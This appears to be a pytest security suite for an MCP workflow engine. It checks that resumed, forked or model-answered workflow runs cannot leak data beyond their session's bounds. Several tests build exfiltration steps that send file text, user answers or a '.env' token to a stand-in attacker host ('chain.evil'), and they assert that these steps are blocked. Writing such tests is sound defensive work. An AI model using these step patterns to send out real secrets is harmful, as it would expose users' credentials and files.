"""What runs have seen and may send: as the session that began them, whoever answers, forks or takes them up again."""

from __future__ import annotations

import json
from pathlib import Path

import anyio
import pytest
from tests.security.chain import SECRET, Host, chained, ground

from astro_mcp.core.flow import BOUNDS, Sort

FOUND = {"id": "find", "tool": "web_search", "with": {"query": "sqlite wal"}}
READ = {"id": "read", "tool": "fs_read", "with": {"path": "bare.txt"}}


async def started(host: Host, *steps: object) -> str:
    """A run, until it ends or waits."""
    spec = json.dumps({"name": "run", "steps": steps})
    done = await host.good("workflow_run", spec=spec, allow=["read", "network"], wait_seconds=30)
    return str(done["run_id"])


async def ends(host: Host, run_id: str) -> dict[str, str]:
    """How its steps ended, by id."""
    told = await host.good("workflow_status", run_id=run_id, wait_seconds=30)
    return {step["id"]: str(step.get("error") or step["status"]).split(":")[0] for step in told["steps"]}


async def test_a_run_that_is_taken_up_again_fetches_what_it_had_found_and_nothing_else(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    gate = {"id": "gate", "approve": {"message": "Go on?", "level": "model"}, "needs": ["find", "read"]}
    good = {"id": "good", "needs": ["gate"], "tool": "web_fetch", "with": {"url": "${{ steps.find.items[0].url }}"}}
    bad = {"id": "bad", "needs": ["gate"], "tool": "web_fetch", "with": {"url": "${{ steps.find.items[0].url }}?q=1"}}
    async with ground(tmp_path, monkeypatch) as here:
        async with here.open(FLOW="strict") as chain, chain.host() as host:
            run_id = await started(host, FOUND, READ, gate, good, bad)
        async with here.open(FLOW="strict") as chain, chain.host() as host:
            await host.good("workflow_answer", run_id=run_id, step="gate", value="true")
            told = await ends(host, run_id)
            assert (told["good"], told["bad"]) == ("succeeded", "forbidden")


async def test_an_answer_brings_what_its_session_has_seen(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async with chained(tmp_path, monkeypatch, FLOW="strict") as chain:
        ask = {"id": "word", "ask": "Which page?", "answer": {"page": "string"}}
        leak = {"id": "leak", "tool": "web_fetch", "with": {"url": f"{chain.evil}/${{{{ steps.word.page }}}}"}}
        async with chain.host() as host:
            run_id = await started(host, ask, leak)
        async with chain.host() as host:
            await host.confused()
            await host.good("workflow_answer", run_id=run_id, step="word", value=json.dumps({"page": SECRET}))
            assert (await ends(host, run_id))["leak"] == "forbidden"
        assert chain.taken() == []


async def test_runs_and_forks_spend_what_the_session_may(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async with chained(tmp_path, monkeypatch) as chain, chain.host() as host:
        most = BOUNDS[Sort.PAGE].each
        urls = [f"{chain.evil}/ok/{number}/${{{{ steps.read.text }}}}" for number in range(most + 1)]
        leaks = [{"id": f"leak{number}", "tool": "web_fetch", "with": {"url": url}} for number, url in enumerate(urls)]
        run_id = await started(host, READ, *leaks)
        assert list((await ends(host, run_id)).values()).count("limit_hit") == 1
        assert await host.refused("web_fetch", url=f"{chain.evil}/ok/again/{SECRET}") == "limit_hit"
        again = await host.good("workflow_control", run_id=run_id, action="fork")
        assert "limit_hit" in (await ends(host, again["run_id"])).values(), "a fork has no bounds of its own"
        other = {**leaks[0], "with": {"url": f"{chain.evil}/ok/other/${{{{ steps.read.text }}}}"}}
        assert (await ends(host, await started(host, READ, other)))["leak0"] == "limit_hit"
        assert len({text.split("/")[2] for text in chain.taken()}) == most


@pytest.mark.parametrize("strict", [True, pytest.param(False, marks=pytest.mark.full)], ids=["strict", "a secret"])
async def test_an_ask_that_the_operators_model_would_answer_carries_no_secret_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, strict: bool
) -> None:
    page = {"id": "page", "tool": "web_fetch"}
    read = {**READ, "with": {"path": "bare.txt" if strict else ".env"}}
    ask = {"id": "word", "ask": "What is it?", "with": {"shown": "${{ steps.read.text }}"}, "needs": ["page"]}
    async with ground(tmp_path, monkeypatch) as here:
        (here.root / ".env").write_text(f"TOKEN={SECRET}\n")
        model = {
            "MODEL__BASE_URL": f"http://127.0.0.1:{here.sink.port}/v1",
            "MODEL__NAME": "m",
            "MODEL__ALLOW_PRIVATE": "true",
            "MODEL__ANSWERS": "every",
        }
        mode = {"FLOW": "strict"} if strict else {"SECRETS__READABLE": '[".env"]'}
        async with here.open(**model, **mode) as chain, chain.host() as host:
            url = {"with": {"url": f"{chain.evil}/page"}}
            run_id = await started(host, {**page, **url}, read, ask)
            told = await host.good("workflow_status", run_id=run_id, wait_seconds=0)
            assert told["status"] == "waiting", told
            with anyio.fail_after(10):  # a run waits before the model is asked, and a record is written behind its call
                while not (
                    asked := [r["code"] for r in await chain.app.audit.last(400) if r["tool"] == "model_answer"]
                ):
                    await anyio.sleep(0.02)
            assert asked[0] == "forbidden"
        assert chain.taken() == []
